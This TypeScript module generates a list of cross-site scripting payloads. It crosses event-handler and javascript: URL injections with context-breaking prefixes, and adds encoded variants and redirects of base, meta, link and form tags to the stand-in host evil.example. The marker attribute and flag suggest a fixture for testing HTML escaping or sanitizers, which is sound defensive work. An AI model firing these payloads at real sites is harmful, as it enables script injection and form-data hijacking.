/** What a payload does when it runs; what it puts on the page has an attribute to be found by. */
const RUN = "window.ranXss=1;alert(1)";
export const MARK = "data-xss";

const ELEMENTS = [
  `script`,
  `svg/onload=${RUN}`,
  `img src=x onerror=${RUN}`,
  `body onload=${RUN}`,
  `input autofocus onfocus=${RUN}`,
  `details open ontoggle=${RUN}`,
  `video src=x onerror=${RUN}`,
  `iframe srcdoc="<script>${RUN}</script>"`,
  `iframe src="javascript:${RUN}"`,
  `marquee onstart=${RUN}`,
  `object data="javascript:${RUN}"`,
  `embed src="javascript:${RUN}"`,
  `base href="//evil.example/"`,
  `meta http-equiv=refresh content="0;url=//evil.example"`,
  `link rel=stylesheet href=//evil.example/x`,
  `form action=//evil.example`,
  `button formaction="javascript:${RUN}"`,
  `math href="javascript:${RUN}"`,
  `style onload=${RUN}`,
  `select autofocus onfocus=${RUN}`,
  `textarea autofocus onfocus=${RUN}`,
  `audio src=x onerror=${RUN}`,
  `svg><animate onbegin=${RUN} attributeName=x`,
  `template shadowrootmode=open`,
];
const ENDS = ["", '"', "'", "</title>", "</textarea>", "</script>", "-->"];
const PLAIN = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `https://evil.example/"onmouseover="${RUN}`,
  `mailto:"onfocus=${RUN}@x.example`,
  `{{constructor}}`,
  `$\{${RUN}}`,
  `\u2028${RUN}`,
  `</p><script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\\u003cscript\\u003e${RUN}`,
  `'-${RUN}-'`,
  `";${RUN};//`,
  `]]><script>${RUN}</script>`,
];

/** Texts that would run in a page that does not escape them: each way in, behind each way out. */
export const PAYLOADS: readonly string[] = [
  ...ENDS.flatMap((end) =>
    ELEMENTS.map((element) => {
      const isScript = element === "script";
      return `${end}<${element} ${MARK}>${isScript ? `${RUN}</script>` : ""}`;
    }),
  ),
  ...PLAIN,
];
